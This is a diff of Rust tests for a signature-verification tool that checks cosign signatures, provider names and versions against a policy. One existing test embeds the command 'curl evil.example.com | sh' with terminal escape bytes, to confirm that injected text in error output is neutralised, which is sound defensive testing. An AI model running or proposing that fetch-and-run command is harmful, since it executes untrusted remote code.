@@ -168,7 +168,7 @@ fn what_was_examined_is_told_with_its_names() {
         .collect();
     assert_snapshot!(told.join("\n"), @r#"
     sha256:f857ae4 a sha256:f857ae4 ("example.com/acme/widget", "1.4.0", "https://sigstore.dev/cosign/sign/v1") counts
-    - - sha256:5a07a72 ("example.com/acme/widget", "1.4.0", "https://sigstore.dev/cosign/sign/v1") is by a key that is not one of yours
+    - - sha256:5a07a72 ("example.com/acme/widget", "1.4.0", "https://sigstore.dev/cosign/sign/v1") is by a key that is not one of yours, or it was damaged
     "#);
 }
 
@@ -178,4 +178,23 @@ fn a_stranger_cannot_write_lines_of_an_error() {
     let evidence = Evidence::Unreadable { origin: Digest::sha256(b""), problem };
     let refusal = Scene::with_policy(&[1], "").found([evidence]).judge().refusal.unwrap();
     assert_snapshot!(refusal, @"what may be its signature cannot be read: gone\u{fffd}\u{fffd}hint: curl evil.example.com | sh\u{fffd}[2J");
+}
+
+#[test]
+fn names_that_are_only_nearly_right_are_wrong() {
+    let version = |version: &str| Scene::with_policy(&[1], "unnamed = \"allow\"").found([says(RIGHT.0, version)]);
+    for wrong in ["1.4", "v1.4.0", "1.4.0 ", "01.4.0"] {
+        check(&version(wrong), "refused other-version");
+    }
+    for wrong in ["acme/widget", "EXAMPLE.com/acme/widget", "example.com/acme/\u{ff57}idget", "example.com/ACME/widget"]
+    {
+        check(&Scene::with_policy(&[1], "unnamed = \"allow\"").found([says(wrong, "1.4.0")]), "refused other-provider");
+    }
+}
+
+#[test]
+fn the_signature_of_a_stranger_is_not_called_damaged_where_one_key_counts() {
+    let scene = Scene::with_policy(&[1], "").found([cosign_tag(2)]);
+    check(&scene, "refused unknown-key");
+    assert_snapshot!(scene.judge().refusal.unwrap(), @"it is signed by a key that is not one of yours, or its signature was damaged");
 }
